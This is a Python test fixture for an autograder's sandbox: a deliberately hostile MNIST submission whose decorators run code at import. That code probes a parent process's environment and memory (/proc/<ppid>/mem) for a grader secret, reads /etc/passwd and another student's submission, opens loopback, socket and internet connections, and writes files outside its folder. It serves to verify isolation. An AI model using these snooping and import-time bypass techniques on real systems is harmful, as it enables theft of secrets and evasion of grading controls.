"""Hostile: at import, reaches outside its job folder in every way it can think of, and prints what it saw.

Each attempt prints one line "SNOOP <what>: <result>"; the test reads them from grade.output and
checks the real file system afterwards. The test fills in the placeholders: paths a student
could guess on a course server (the MNIST folder, another student's submission, this submission's
own source folder) and a loopback port, a UNIX socket and an abstract socket the test listens on.

  - environment: is the parent's GRADER_TEST_SECRET in os.environ? in /proc/<parent>/environ? in
    the parent's memory (/proc/<parent>/mem)?
  - reads: /etc/passwd, the MNIST label files, another student's submission
  - network: the test's loopback port, its UNIX socket, its abstract socket, the internet
  - writes: "naive" ones that the allow-listed environment keeps in the job folder ($HOME,
    tempfile.gettempdir(), ..) and deliberate ones (/tmp, the real home, the source folder)

Expected: the model grades normally; with bubblewrap every outside read, connection and write fails;
with process isolation only the naive writes and the environment are contained (known limits).
"""
import os
import pwd
import socket
import tempfile
from pathlib import Path

import torch.nn as nn
import torch.nn.functional as F

MARKER = "@@MARKER@@"
DATA_DIR = "@@DATA_DIR@@"
OTHER_SUBMISSION = "@@OTHER_SUBMISSION@@"
SOURCE_DIR = "@@SOURCE_DIR@@"
PORT = int("@@PORT@@")
UNIX_SOCKET = "@@UNIX_SOCKET@@"
ABSTRACT_SOCKET = "@@ABSTRACT_SOCKET@@"
NEEDLE = b"GRADER_TEST_SECRET="


def report(what, value):
    print(f"SNOOP {what}: {value}"[:300], flush=True)


def attempt(what, action):
    try:
        report(what, action())
    except BaseException as e:  # noqa: BLE001 - a snoop reports every failure and goes on
        report(what, f"blocked ({type(e).__name__}: {e})")


def secret_in_parent_environ():
    values = [e[len(NEEDLE):].decode(errors="replace") for e in Path(f"/proc/{os.getppid()}/environ").read_bytes().split(b"\0")
              if e.startswith(NEEDLE)]
    return values or "absent"


def secret_in_parent_memory():
    """Scan the parent's anonymous memory for NEEDLE and return what follows it."""
    found = set()
    ppid = os.getppid()
    with open(f"/proc/{ppid}/maps") as maps, open(f"/proc/{ppid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5] not in ("[heap]", "[stack]")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            for offset in range(start, end, 32 << 20):
                try:
                    mem.seek(offset)
                    data = mem.read(min(32 << 20, end - offset) + len(NEEDLE) + 80)
                except (OSError, ValueError, OverflowError):
                    break
                at = data.find(NEEDLE)
                while at >= 0 and len(found) < 20:
                    value = data[at + len(NEEDLE): at + len(NEEDLE) + 80].split(b"\0")[0]
                    if value:
                        found.add(value.decode(errors="replace"))
                    at = data.find(NEEDLE, at + 1)
    return sorted(found)[:8] or "absent"


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(1.0)
        s.connect(address)
        return "connected"


def write(folder, label):
    path = Path(folder) / f"{MARKER}-{label}"
    path.write_text("written by a hostile submission\n")
    return f"wrote {path}"


@lambda run: run()  # runs at import: the loading rule keeps definitions, and a decorator is part of one
def _at_import1():
    global _, name
    report("job", Path.cwd().parent)
    report("uid", os.getuid())
    attempt("env", lambda: os.environ.get("GRADER_TEST_SECRET", "absent"))
    report("env names", " ".join(sorted(os.environ)))
    attempt("parent environ", secret_in_parent_environ)
    attempt("parent memory", secret_in_parent_memory)

    attempt("read passwd", lambda: f"{len(Path('/etc/passwd').read_bytes())} bytes")
    attempt("read mnist labels", lambda: f"{len(Path(DATA_DIR, 't10k-labels-idx1-ubyte.gz').read_bytes())} bytes")
    attempt("read other submission", lambda: Path(OTHER_SUBMISSION).read_text().strip())

    attempt("net loopback", lambda: connect(socket.AF_INET, ("127.0.0.1", PORT)))
    attempt("net unix socket", lambda: connect(socket.AF_UNIX, UNIX_SOCKET))
    attempt("net abstract socket", lambda: connect(socket.AF_UNIX, "\0" + ABSTRACT_SOCKET))
    attempt("net internet", lambda: connect(socket.AF_INET, ("1.1.1.1", 53)))
    attempt("net interfaces", lambda: " ".join(name for _, name in socket.if_nameindex()))


def real_home():
    try:
        return pwd.getpwuid(os.getuid()).pw_dir
    except KeyError:
        return "/root"


# naive: the allow-listed environment points these into the job folder
@lambda run: run()  # runs at import: the loading rule keeps definitions, and a decorator is part of one
def _at_import2():
    attempt("write home", lambda: write(Path.home(), "home"))
    attempt("write tempdir", lambda: write(tempfile.gettempdir(), "tempdir"))
    attempt("write parent folder", lambda: write(Path.cwd().parent, "parent-folder"))
    # deliberate: literal paths outside
    attempt("write /tmp", lambda: write("/tmp", "tmp"))
    attempt("write real home", lambda: write(real_home(), "real-home"))
    attempt("write source folder", lambda: write(SOURCE_DIR, "source-folder"))


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 8, 3, padding=1)
        self.bn = nn.BatchNorm2d(8)
        self.drop = nn.Dropout(0.1)
        self.head = nn.Conv2d(8, 10, 1)

    def forward(self, x):
        x = self.drop(F.relu(self.bn(self.conv(x))))
        return self.head(x).mean(dim=(2, 3))
